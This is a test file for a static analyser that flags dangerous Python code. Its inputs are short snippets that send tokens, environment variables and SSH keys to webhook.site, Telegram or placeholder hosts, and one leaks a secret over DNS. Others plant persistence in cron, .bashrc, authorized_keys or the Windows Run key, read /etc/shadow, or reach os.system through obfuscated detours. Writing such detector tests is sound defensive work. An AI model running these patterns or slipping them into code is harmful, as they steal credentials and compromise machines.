// What source sends, writes and reads of the machine, and what it hands over; the rest stands in judge-source.test.ts.

import { describe, expect, test } from 'vitest';
import { analysePython } from '../../formats/python-source/analyse-python.ts';
import { judgeSource } from './judge-source.ts';

function judged(source: string): string[] {
  return [...judgeSource(analysePython(source).code)].map(
    ({ rule, severity }) => `${rule.id} ${severity ?? rule.severity}`,
  );
}

describe('what leaves the machine', () => {
  test.each([
    'import os, requests\nenv = os.environ.copy()\nrequests.post(u, json=env)',
    "import os, requests\nrequests.get('https://x.y/?t=' + os.environ['HF_TOKEN'])",
    "import os, requests\nrequests.post('https://webhook.site/a', data={'k': os.getenv('API_KEY')})",
    "import requests, platform\nrequests.post('https://api.telegram.org/bot1/sendMessage', data={'t': platform.node()})",
    "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.y')",
    "import glob, requests\nfor f in glob.glob('/root/.ssh/*'):\n    requests.post(u, files={'f': open(f)})",
  ])('%s', (source) => expect(judged(source)).toContain('python/sends-secrets high'));

  test.each([
    "import os, requests\nrequests.get('https://huggingface.co/x', headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']})",
    "import os, requests\nrequests.post('https://api.x.y', headers={'Authorization': os.environ['X_TOKEN']})",
    'import socket\nsocket.gethostbyname(socket.gethostname())',
    "import os, urllib.request\nurllib.request.urlretrieve(u, os.environ.get('DATA_HOME', '.') + '/x')",
  ])('nothing of %s', (source) => expect(judged(source)).toEqual([]));
});

describe('places of the machine', () => {
  test.each([
    ["open('/etc/cron.d/x', 'w')", 'python/writes-startup-file high'],
    ["import os\nopen(os.path.expanduser('~/.bashrc'), 'a')", 'python/writes-startup-file high'],
    [
      "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)",
      'python/writes-startup-file high',
    ],
    [
      "import os\nopen(os.path.join(os.environ['APPDATA'], 'Start Menu\\\\Programs\\\\Startup\\\\x.bat'), 'w')",
      'python/writes-startup-file high',
    ],
    [
      "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'x', 0, 1, p)",
      'python/writes-startup-file high',
    ],
    ["open('/etc/shadow').read()", 'python/reads-credentials medium'],
  ])('%s', (source, expected) => expect(judged(source)).toContain(expected));

  test.each([
    "open('model.pth', 'wb')",
    "from pathlib import Path\n(Path.home() / '.cache' / 'x').write_text(k)",
    "open('/root/.ssh/id_rsa.pub')",
    "open('.bashrc_example', 'w')",
  ])('nothing of %s', (source) => expect(judged(source)).toEqual([]));
});

describe('functions in the hands of another', () => {
  test.each([
    'import pickle\nlist(map(pickle.loads, xs))',
    'import pickle\ndf["a"].apply(pickle.loads)',
    'from joblib import Parallel, delayed\nimport pickle\nParallel()(delayed(pickle.loads)(x) for x in xs)',
  ])('%s', (source) => expect(judged(source)).toContain('python/loads-pickle high'));

  test('in a dict of converters', () => {
    expect(judged("import pandas as pd\npd.read_csv('x', converters={'a': eval})")).toContain(
      'python/evaluates-code high',
    );
  });
});

describe('functions that are reached by detours', () => {
  test.each([
    "import os\nclass A: pass\nsetattr(A, 'r', os.system)\nA.r(x)",
    "import os\nglobals()['r'] = os.system\nr(x)",
    'import os\nglobals().update(r=os.system)\nr(x)',
    "import pkgutil\npkgutil.resolve_name('os:system')(x)",
    "import pydoc\npydoc.locate('os.system')(x)",
    "__loader__.load_module('os').system(x)",
    "import os\ngetattr(os, ''.join(a for a, b in zip('system', 'xxxxxx')))(x)",
  ])('%s', (source) => expect(judged(source)).toContain('python/runs-shell high'));

  test('through a builtin', () => {
    expect(judged('print.__self__.exec(x)')).toContain('python/evaluates-code high');
  });

  test('a variable of the same name is no module', () => {
    expect(judged('def f(pickle):\n    return pickle.loads(1)')).toEqual([]);
  });
});
